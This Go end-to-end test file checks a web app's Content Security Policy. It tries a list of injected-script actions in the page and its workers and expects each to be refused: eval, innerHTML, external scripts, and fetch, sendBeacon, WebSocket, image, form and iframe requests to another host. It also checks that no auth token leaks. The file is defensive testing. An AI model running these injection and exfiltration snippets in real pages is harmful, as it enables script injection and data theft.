package e2e

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	"tracelens/shared/tracetest"
	"tracelens/web/csp"
)

// forbidden is what a script that got into the page could try: each is to fail. OTHER is another host.
var forbidden = map[string]string{
	"markup":              "document.body.innerHTML = '<b>x</b>'",
	"markup in a range":   "document.createRange().createContextualFragment('<b>x</b>')",
	"a parsed document":   "document.write('x')",
	"a program of a text": "(0, eval)('1')",
	"a function":          "new Function('1')",
	"a script's address":  "document.createElement('script').src = 'OTHER/x.js'",
	"a script of its own": "document.createElement('script').src = '/x.js'",
	"a script's text":     "document.createElement('script').text = '1'",
	"another policy":      "trustedTypes.createPolicy('mine', {})",
	"another worker":      "new Worker('/x.js')",
	"a worker of a text":  "new Worker(URL.createObjectURL(new Blob(['1'])))",
	"a request":           "fetch('OTHER/')",
	"a message":           "new Promise((ok, no) => { if (!navigator.sendBeacon('OTHER/')) no(); else fetch('OTHER/').then(ok, no); })",
	"a socket":            "new Promise((ok, no) => { const s = new WebSocket('ws://192.0.2.1/'); s.onerror = no; s.onopen = ok; })",
	"a picture":           "new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'OTHER/x.png'; })",
	"a style":             "new Promise((ok, no) => { const s = document.createElement('style'); s.append('*{opacity:.5}'); document.head.append(s); getComputedStyle(document.body).opacity === '1' ? no() : ok(); })",
	"a form":              "new Promise((ok, no) => { document.addEventListener('securitypolicyviolation', no); const f = document.createElement('form'); f.action = 'OTHER/'; document.body.append(f); f.submit(); })",
	"a frame":             "new Promise((ok, no) => { document.addEventListener('securitypolicyviolation', no); const f = document.createElement('iframe'); f.src = 'OTHER/'; document.body.append(f); })",
}

// inWorkers are those that make sense in a worker, too.
var inWorkers = []string{"a program of a text", "a function", "another policy", "another worker", "a worker of a text", "a request", "a socket"}

// TestArmour tries what is forbidden in the page and in its workers, from the helper and from a static host, which sends no policy: nothing of
// it works, and another host hears nothing.
func TestArmour(t *testing.T) {
	t.Parallel()
	var heard atomic.Int64
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { heard.Add(1) }))
	t.Cleanup(other.Close)
	h, _ := feed(t, "-w", t.TempDir())
	for name, link := range map[string]string{"helper": h.link, "static host": staticHost(t)} {
		t.Run(name, func(t *testing.T) {
			p := open(t, link, desktop)
			p.workerRuns()
			p.tries = true
			p.mayAsk(strings.TrimPrefix(other.URL, "http://"))
			p.mayAsk("192.0.2.1") // the attempt is noted, and goes nowhere
			try := func(where string, in func(string) string, what string) {
				t.Helper()
				script := strings.ReplaceAll(forbidden[what], "OTHER", other.URL)
				if got := in("(async () => { await (" + script + "); })().then(() => 'done', () => 'refused')"); got != "refused" {
					t.Errorf("%s: %s was %s", where, what, got)
				}
			}
			for what := range forbidden {
				try("page", func(script string) string { return eval[string](p, script) }, what)
			}
			worker := &page{t: t, ctx: p.attached(p.leadTarget())} // its counters may be ended at any time
			for _, what := range inWorkers {
				try("worker", func(script string) string { return eval[string](worker, script) }, what)
			}
		})
	}
	if heard.Load() != 0 {
		t.Errorf("another host was asked %d times", heard.Load())
	}
}

// inline matches what a page must not need: scripts, styles and handlers that stand in it.
var inline = regexp.MustCompile(`(?i)<script(?:[^>]*[^"])?>[^<]|<script>|<style|\son[a-z]+=|javascript:`)

// TestPolicyOfTheBuild: every page that is built carries the policy before anything else is named, and nothing that the policy forbids.
func TestPolicyOfTheBuild(t *testing.T) {
	for _, name := range []string{"index.html", "404.html"} {
		b, err := os.ReadFile(filepath.Join(site, name))
		if err != nil {
			t.Fatal(err)
		}
		html := string(b)
		policy := strings.Index(html, `<meta http-equiv="Content-Security-Policy" content="`+csp.Page+`">`)
		first := regexp.MustCompile(`<(?:script|link|img)`).FindStringIndex(html)
		if policy < 0 || first == nil || first[0] < policy {
			t.Errorf("%s: the policy is at %d, the first thing to load at %v", name, policy, first)
		}
		if found := inline.FindAllString(html, -1); len(found) > 0 {
			t.Errorf("%s has %q", name, found)
		}
	}
	if strings.Contains(csp.Header, "unsafe-eval") && !strings.Contains(csp.Header, "'wasm-unsafe-eval'") || strings.Contains(csp.Header, " *") {
		t.Errorf("the policy is %s", csp.Header)
	}
}

// TestTokenStays: nothing that the page asks of its host, by address, head or body, holds the token, before, while and after it is connected;
// nor does anything that stays in the browser.
func TestTokenStays(t *testing.T) {
	t.Parallel()
	h, w := feed(t, "-w", t.TempDir())
	f := newFront(t, h)
	f.serve(site)
	p := open(t, f.link, desktop)
	p.installed()
	p.opened("ready", func() { p.click("connect") })
	cut, packets := pieces(t, filepath.Join(filepath.Dir(tracetest.Captures()[0]), "android-first120.pcap"), 1)
	if _, err := w.Write(cut[0]); err != nil {
		t.Fatal(err)
	}
	p.packets(packets[0])
	p.run(reload())
	p.state("empty")
	_, token, _ := strings.Cut(h.link, "token=")
	kept := eval[string](p, `(async () => JSON.stringify([location.href, document.cookie, document.referrer, history.state, {...localStorage}, {...sessionStorage}, await indexedDB.databases(),
		...await Promise.all((await caches.keys()).map(async name => (await (await caches.open(name)).keys()).map(r => r.url)))]))()`)
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.asked) < 5 {
		t.Errorf("only %d requests were seen", len(f.asked))
	}
	for _, text := range append(f.asked, kept) {
		if strings.Contains(text, token) {
			t.Errorf("the token is in %s", text)
		}
	}
	h.stop()
	for _, line := range h.said {
		if strings.Contains(line, token) {
			t.Errorf("the helper says the token in %q", line)
		}
	}
}
